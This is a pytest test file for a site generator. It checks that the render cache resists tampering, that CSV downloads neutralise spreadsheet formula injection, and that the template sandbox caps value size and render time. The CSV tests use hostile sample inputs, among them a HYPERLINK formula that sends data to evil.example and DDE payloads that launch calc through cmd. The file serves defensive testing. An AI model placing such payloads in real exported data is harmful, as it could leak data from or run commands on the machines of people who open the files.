"""Hostile input against what panelsite publishes and what it keeps between builds (issue 20)."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

import pytest

from generator import charts
from generator.comparators import Comparator
from generator.models import Kpi
from generator.output_safety import safe_cell
from generator.render_memo import RenderMemo


@dataclass
class _Page:
    path: str = "events/party.md"
    template: str = "event.md.j2"
    title: str = "Party"

    def own_inputs(self) -> tuple[object, ...]:
        return ("record",)


def test_a_kept_page_changed_in_place_is_rendered_again_not_served():
    memo, page = RenderMemo(), _Page()
    memo.begin(("shared",))
    assets = {"events/party.csv": b"a,b\n"}
    memo.put(page, "# Party\n", assets, ())
    memo.end()
    assets["events/party.csv"] = b"=HYPERLINK(1)\n"  # the caller's dict edited after it was kept
    memo.begin(("shared",))
    kept = memo.get(page)
    assert kept is not None and kept.assets == {"events/party.csv": b"a,b\n"}
    kept.assets["events/party.csv"] = b"changed by a later step"
    memo.end()
    memo.begin(("shared",))
    again = memo.get(page)
    assert again is not None and again.assets == {"events/party.csv": b"a,b\n"}
    object.__setattr__(memo._next[page.path], "text", "<script>")  # the kept entry itself tampered with
    memo.end()
    memo.begin(("shared",))
    assert memo.get(page) is None


# --- CSV downloads: no cell a spreadsheet would run ----------------------------------------------


HOSTILE_KPI = Kpi.model_validate(
    {
        "id": "cla",
        "title": "Children looked after",
        "definition": "d",
        "theme": "t",
        "unit": "count",
        "polarity": "information only",
        "frequency": "monthly",
        "source": {"doc": "s", "where": "+table 1"},
        "values": [{"period": "2016-01", "value": -4.5}, {"period": "2022-12", "value": 551, "note": "\tnote"}],
        "benchmarks": [{"name": "england", "values": [{"period": "2022-12", "value": 420}]}],
    }
)


def _csv_cells(source_title: str, area_name: str, label: str) -> list[list[str]]:
    comparators = [Comparator(name="england", label=label, short_label=label)]
    rows = charts.table_rows(HOSTILE_KPI, lambda doc: source_title, area_name, comparators)
    return list(csv.reader(io.StringIO(charts.csv_text(rows))))


def test_a_source_title_starting_with_equals_is_not_a_formula_in_the_csv():
    cells = _csv_cells('=HYPERLINK("http://evil.example/?"&A1,"click")', "Northby", "England")
    sources = {row[6] for row in cells[1:]}
    assert sources == {'\'=HYPERLINK("http://evil.example/?"&A1,"click"), +table 1'}


def test_an_area_name_starting_with_at_is_not_a_formula_in_the_csv():
    cells = _csv_cells("Paper", "@SUM(1+1)*cmd|' /C calc'!A0", "England")
    assert {row[1] for row in cells[1:] if row[1] != "England"} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}


def test_a_comparator_label_starting_with_minus_is_not_a_formula_but_a_negative_value_stays_a_number():
    cells = _csv_cells("Paper", "Northby", "-2+3+cmd|' /C calc'!A0")
    assert ["2022-12", "'-2+3+cmd|' /C calc'!A0", "420", "", "", "no", "Paper, +table 1"] in cells
    assert ["2016-01", "Northby", "-4.5", "", "", "no", "Paper, +table 1"] in cells


@pytest.mark.parametrize(
    ("value", "numeric", "written"),
    [
        ("=1+1", False, "'=1+1"),
        ("+44 1234", False, "'+44 1234"),
        ("-5", False, "'-5"),  # text that looks like a number is still text
        ("-5", True, "-5"),
        ("-5e3", True, "-5e3"),
        ("-1+cmd", True, "'-1+cmd"),  # a number column holding something else is text
        ("@x", False, "'@x"),
        ("\tx", False, "'\tx"),
        ("\rx", False, "'\rx"),
        ("plain", False, "plain"),
        ("", True, ""),
    ],
)
def test_each_formula_start_is_neutralised(value, numeric, written):
    assert safe_cell(value, numeric) == written


# --- The content sandbox's caps hold however a value is built ------------------------------------


def _render(source: str) -> str:
    from generator.sandbox import compile_page, render_page

    return render_page(compile_page(source), {})


def test_a_slow_page_is_stopped_at_the_time_cap(monkeypatch):
    from jinja2.exceptions import SecurityError

    from generator import sandbox

    monkeypatch.setattr(sandbox, "PAGE_SECONDS", 0.0)
    with pytest.raises(SecurityError, match="the page took more than 0 seconds to render"):
        _render("{% for i in range(10) %}{{ i }}{% endfor %}")
    monkeypatch.setattr(sandbox, "PAGE_SECONDS", 10.0)
    assert _render("{% for i in range(3) %}{{ i }}{% endfor %}") == "012"


@pytest.mark.parametrize(
    "source",
    [
        "{% set s = 'x' * 100000 %}{% set s = s ~ s ~ s ~ s %}{{ s|length }}",  # ~ (passed check before)
        "{% set s = 'x' * 100000 %}{% set s = s + s %}{{ s|length }}",  # + on text
        "{% set s = [0] * 100000 %}{% set s = s + s %}{{ s|length }}",  # + on lists
        "{% set a = 'x' * 9000 %}{% set b = [a] * 200 %}{% set c = [b, b] %}{{ c|length }}",  # shared parts
        "{% set a = [[1] * 100000] %}{{ (a * 100)|length }}",  # * repeating a deep list
        "{% set s = 'x' * 100000 %}{% for i in range(30) %}{{ s }}{% endfor %}",  # the page's text
    ],
)
def test_every_way_of_building_a_huge_value_is_refused(source):
    from jinja2.exceptions import SecurityError

    with pytest.raises(SecurityError, match="may (make|hold) at most|longer than"):
        _render(source)


def test_ordinary_pages_still_render():
    text = _render(
        "{% set names = ['a', 'b'] + ['c'] %}{{ names|length }} "
        "{{ 'x' ~ 1 ~ '-' ~ 2 }} {{ [1, 2, 3]|sum }} {{ {'k': 'v'}['k']|upper }} {{ (1, 2)|list|length }}"
    )
    assert text == "3 x1-2 6 V 2"


# --- Required fields are required ---------------------------------------------------------------


@pytest.mark.parametrize(("given", "loaded"), [("2017-07-18", "2017-07-18"), ("undated", None), ("Undated", None)])
def test_a_source_date_is_a_day_or_undated_said_on_purpose(given, loaded):
    from generator.models.source import SourceDocument

    doc = SourceDocument.model_validate({"id": "a", "title": "t", "publisher": "p", "date": given})
    assert (doc.date.isoformat() if doc.date else None) == loaded


def test_every_demo_source_states_its_date():
    from pathlib import Path

    import yaml

    sources = yaml.safe_load((Path(__file__).parent.parent / "data/sources.yml").read_text(encoding="utf-8"))
    assert all("date" in doc for doc in sources["documents"])
